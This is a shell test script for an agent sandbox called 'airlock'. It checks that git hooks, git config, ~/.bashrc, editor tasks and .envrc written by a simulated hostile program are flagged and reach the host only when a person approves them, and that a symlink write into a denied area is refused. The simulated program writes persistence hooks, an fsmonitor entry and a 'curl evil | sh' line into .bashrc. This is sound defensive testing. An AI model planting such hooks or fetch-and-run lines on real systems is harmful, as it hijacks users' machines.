#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# The gate, against a hostile program: what runs code on the host later (git hooks and
# config, shell start-up files, editor configuration) starts undecided and flagged although
# 'allow write' covers it, and reaches the host only when the person names or approves it;
# `commit ID` applies the approved changes only, --all never a flagged or denied one; and a
# change under a 'deny write' rule that got into the overlay through a symlink never does.
. "$(dirname "$0")/../lib.sh"
require_sandbox

P=$T/proj
H=$T/home
mkdir -p "$P/.git/hooks" "$P/secret" "$H"
printf '[core]\n\tbare = false\n' >"$P/.git/config"
echo readme >"$P/README.md"
echo 'export PS1=$' >"$H/.bashrc"
cat >"$T/rules" <<EOF2
allow write $H/**
deny write ./secret/**
EOF2
chmod 600 "$T/rules"
# The home directory of every airlock call below: ~/.bashrc is $H/.bashrc.
export HOME=$H

cat >"$T/agent.py" <<'PY'
import os, sys
home = sys.argv[1]
open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ntouch /tmp/pwned\n")
os.chmod(".git/hooks/pre-commit", 0o755)
open(".git/config", "a").write("\tfsmonitor = touch /tmp/pwned\n")
os.makedirs("vendor/lib/.git/hooks")
open("vendor/lib/.git/hooks/post-checkout", "w").write("#!/bin/sh\n")
# Not flagged itself, but inside the new repository's flagged .git.
os.makedirs("vendor/lib/.git/objects/ab")
open("vendor/lib/.git/objects/ab/cdef", "w").write("blob\n")
open(os.path.join(home, ".bashrc"), "a").write("curl evil | sh\n")
os.makedirs(".vscode")
open(".vscode/tasks.json", "w").write('{"tasks": [{"runOn": "folderOpen"}]}\n')
open("README.md", "a").write("more\n")
# Into a deny-write area through a symlink the sandbox made.
os.symlink("secret", "link")
try:
    open("link/planted", "w").write("planted\n")
except OSError as e:
    print("symlink write refused:", e, file=sys.stderr)
PY
cd "$P" || exit 1
al_run -r "$T/rules" -- "$PY" "$T/agent.py" "$H" >"$T/run.out" 2>"$T/run.err"
is "$?" 0 "the program ran"
ID=$(last_session)
check "the end-of-run line points to 'airlock commit ID'" grep -q "'airlock commit $ID'" "$T/run.err"
check "... never to --all" bash -c "! grep -q -- '--all' '$T/run.err'"

host_state() {
	for f in .git/hooks/pre-commit vendor/lib/.git/hooks/post-checkout .vscode/tasks.json \
		secret/planted vendor/lib/.git/objects/ab/cdef; do
		[ -e "$P/$f" ] && echo "$f"
	done
	grep -c fsmonitor "$P/.git/config"
	grep -c evil "$H/.bashrc"
	grep -c more "$P/README.md"
}
pristine=$(printf '0\n0\n0')

# --- what show says --------------------------------------------------------------------
"$AIRLOCK" show --json "$ID" >"$T/show.json"
state() { json_get "$T/show.json" "[(c['state'], c['risk'] is not None) for c in j['changes'] if c['path'] == '$1'][0]"; }
for f in "$P/.git/hooks/pre-commit" "$P/.git/config" "$P/vendor/lib/.git/hooks/post-checkout" \
	"$H/.bashrc" "$P/.vscode/tasks.json"; do
	is "$(state "$f")" "('undecided', True)" "show --json: ${f#$T/} is undecided and flagged"
done
is "$(state "$P/README.md")" "('approved', False)" "show --json: README.md is approved, not flagged"
# The write through the symlink is decided on the path the kernel resolves, so it is refused
# in the sandbox already; the commit's own check of every final host path against the deny
# rules, for a change that got in all the same (a path rewritten after the check), is
# covered by tests/unit/test_gate.c.
is "$(json_get "$T/show.json" "any(c['path'].startswith('$P/secret/') for c in j['changes'])")" False \
	"the write into the deny-write area through the program's symlink was refused"
check "... and the program was told so (EACCES)" grep -q "symlink write refused: .*Permission denied" "$T/run.err"
planted=0
is "$(json_get "$T/show.json" "[c['risk'] for c in j['changes'] if c['path'] == '$P/.git/hooks/pre-commit'][0]")" \
	"git runs hooks, filters and fsmonitor from it" "show --json: the risk says why"
"$AIRLOCK" show "$ID" >"$T/show.txt"
check "show marks the hook flagged" grep -q "pre-commit   \[undecided, flagged: git runs hooks" "$T/show.txt"
"$AIRLOCK" diff "$ID" >"$T/diff.txt"
check "diff says it in a comment line" grep -q "^# airlock: flagged: .*\.git/hooks/pre-commit: git runs hooks" "$T/diff.txt"

# --- commit ID: the approved changes only ----------------------------------------------
"$AIRLOCK" commit "$ID" >"$T/out" 2>"$T/err"
is "$?" 0 "commit ID exits 0"
is "$(host_state)" "$(printf '0\n0\n1')" "commit ID applied README.md and nothing flagged or denied"
# 11 flagged: the objects of the new repository stay with its flagged .git directory.
check "... and says what it left" grep -qE "left in session $ID: 0 undecided, 11 flagged, $planted denied" "$T/err"
check "... and how to apply a flagged one after it" grep -q "'airlock undo $ID' and commit again naming it" "$T/err"
"$AIRLOCK" undo "$ID" >/dev/null 2>&1
is "$(host_state)" "$pristine" "undo"

# --- --all: never a flagged or a denied change -----------------------------------------
"$AIRLOCK" commit "$ID" --all >"$T/out" 2>"$T/err"
is "$?" 0 "commit --all exits 0"
is "$(host_state)" "$(printf '0\n0\n1')" "commit --all left every flagged and denied change"
"$AIRLOCK" undo "$ID" >/dev/null 2>&1

# --- a directory above does not name a flagged change ----------------------------------
"$AIRLOCK" commit "$ID" "$P" >"$T/out" 2>"$T/err"
is "$(host_state)" "$(printf '0\n0\n1')" "commit ID PROJECT leaves the flagged changes below it"
"$AIRLOCK" undo "$ID" >/dev/null 2>&1

# --- naming them applies them ----------------------------------------------------------
"$AIRLOCK" commit "$ID" "$P/.git/hooks/pre-commit" "$P/.vscode" "$H/.bashrc" >"$T/out" 2>"$T/err"
is "$?" 0 "commit ID PATH... exits 0"
is "$(host_state)" "$(printf '.git/hooks/pre-commit\n.vscode/tasks.json\n0\n1\n0')" \
	"the named hook, .vscode and ~/.bashrc were applied, nothing else"
"$AIRLOCK" undo "$ID" >/dev/null 2>&1

# --- the review's decisions are saved in the session as they are made ------------------
. "$TESTS_DIR/ui/screen.bash"
cd "$P" || exit 1
al_run -- sh -c 'echo "#!/bin/sh" >.git/hooks/post-merge; echo x >x.txt' >/dev/null 2>&1
ID=$(last_session)
# Down to the hook (j steps over its open directory's line), approve it, quit without
# committing (y to the question that asks first).
ui 'j<Dump>a<Dump>qy' review "$ID"
check "the review flags the hook where the person looks" \
	grep -q "^undecided: flagged: git runs hooks, filters and fsmonitor from it" <(screen 1)
check "... in the list too" grep -qE "^ \[\?\]   add        post-merge +flagged  \+1 -0$" <(screen 1)
check "... and approves it on 'a'" grep -q "^ \[+\]   add        post-merge" <(screen 2)
is "$("$AIRLOCK" show --json "$ID" | json_get - "[c['state'] for c in j['changes'] if c['path'].endswith('post-merge')][0]")" \
	approved "show --json: the approval made in the review is the hook's state"
"$AIRLOCK" commit "$ID" >"$T/out" 2>"$T/err"
check "commit ID applies the hook approved in the review" test -e "$P/.git/hooks/post-merge"
check "... and the approved x.txt" test -e "$P/x.txt"

# --- a few left changes are named ------------------------------------------------------
al_run -- sh -c 'echo "export X=1" >.envrc' >/dev/null 2>&1
ID=$(last_session)
"$AIRLOCK" commit "$ID" >"$T/out" 2>"$T/err"
is "$?" 0 "commit ID with nothing approved exits 0"
check "... says so" grep -q "no approved changes to commit" "$T/out"
check "... and names the flagged change it left" grep -q "^  flagged   $P/.envrc$" "$T/err"
check "... and how to apply it" grep -q "'airlock review $ID' or 'airlock commit $ID PATH' applies one" "$T/err"
check ".envrc is not on the host" test ! -e "$P/.envrc"

# --- rules show lists the class --------------------------------------------------------
"$AIRLOCK" rules show >"$T/rules.out"
check "rules show lists the sensitive paths" grep -q "sensitive /\*\*/.git/\*\*/hooks/\*\*" "$T/rules.out"
done_testing
